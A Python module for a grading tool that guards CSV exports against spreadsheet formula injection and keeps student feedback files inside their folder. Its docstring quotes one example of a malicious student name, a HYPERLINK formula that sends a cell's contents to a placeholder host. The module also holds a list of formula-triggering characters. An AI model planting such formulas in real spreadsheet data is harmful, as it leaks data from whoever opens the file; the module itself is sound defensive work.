"""What a student's name can do to the files an instructor opens, and how the grader stops it.

A student names their own file, so ``=HYPERLINK("http://x?"&A2).ipynb`` is a
student called ``=HYPERLINK("http://x?"&A2)``; a roster typed in by hand can
hold the same. Two outputs carry such names:

1. ``spreadsheet_safe`` / ``csv_text``: a CSV cell that a spreadsheet would
   evaluate as a formula (CSV or formula injection, CWE-1236) gets a ``'`` in
   front, the way OWASP recommends, and every text cell is quoted; the name
   stays readable (``'=HYPERLINK(...)``). Number columns stay bare numbers.
2. ``feedback_path``: a student's feedback file stays inside the feedback
   folder, whatever the name.
3. ``write_atomically``: every output file is replaced whole, never left half
   written (a spreadsheet open on the old one sees the old one).

Reference: OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import tempfile
from pathlib import Path

# a cell that starts with one of these is a formula to Excel, LibreOffice or Google Sheets (OWASP's list)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MAX_FILE_STEM = 200   # bytes (UTF-8): room for '.txt' and write_atomically's '.NAME.XXXXXXXX.tmp' under 255


def spreadsheet_safe(text: str) -> str:
    """``text``, with a ``'`` in front when a spreadsheet would evaluate it as a formula.

    >>> spreadsheet_safe('=1+1'), spreadsheet_safe('-2 points'), spreadsheet_safe('alice')
    ("'=1+1", "'-2 points", 'alice')
    """
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def _number(value) -> int | float:
    """'3', 3.0 -> 3; '1.5' -> 1.5: what the csv module writes unquoted, as a spreadsheet number."""
    number = float(value)
    return int(number) if number.is_integer() else number


def csv_text(columns: list[str], rows: list[dict], numbers: tuple[str, ...] = ()) -> str:
    """A CSV file's text: the header ``columns``, then one line per dict in ``rows``.

    Every text cell (the header too) goes through ``spreadsheet_safe`` and is
    quoted (``csv.QUOTE_NONNUMERIC``); the cells of the ``numbers`` columns are
    written as bare numbers (``_number``), so that a spreadsheet can sum them.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n")
    writer.writerow([spreadsheet_safe(column) for column in columns])
    for row in rows:
        writer.writerow([_number(row[column]) if column in numbers else spreadsheet_safe(str(row[column]))
                         for column in columns])
    return buffer.getvalue()


def feedback_path(folder: Path, student: str) -> Path:
    """``folder/<student>.txt``, a file directly inside ``folder`` whatever ``student`` holds.

    ``find_submissions`` takes names from file and folder names, so they hold
    no ``/``; this holds for any name: a path separator becomes ``_``, a
    leading ``.`` (``..``, a hidden file) becomes ``_``, and a name too long
    for the file system is cut and ends in a hash of the whole name, so that
    two long names stay two files. ``=cmd`` stays ``=cmd.txt``: a file name
    is not a formula.
    """
    stem = student.replace("/", "_").replace("\\", "_").replace("\0", "_") or "_"
    if stem.startswith("."):
        stem = "_" + stem[1:]
    if len(stem.encode()) > MAX_FILE_STEM:
        digest = hashlib.sha256(student.encode()).hexdigest()[:12]
        stem = stem.encode()[:MAX_FILE_STEM - 13].decode(errors="ignore") + "-" + digest
    return folder / f"{stem}.txt"


def write_atomically(path: Path, text: str) -> None:
    """Write ``text`` to ``path`` so that readers see the old file or the new one, never half."""
    path.parent.mkdir(parents=True, exist_ok=True)
    fd, tmp = tempfile.mkstemp(dir=path.parent, prefix=f".{path.name}.", suffix=".tmp")
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as f:
            f.write(text)
            f.flush()
            os.fsync(f.fileno())
        os.replace(tmp, path)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
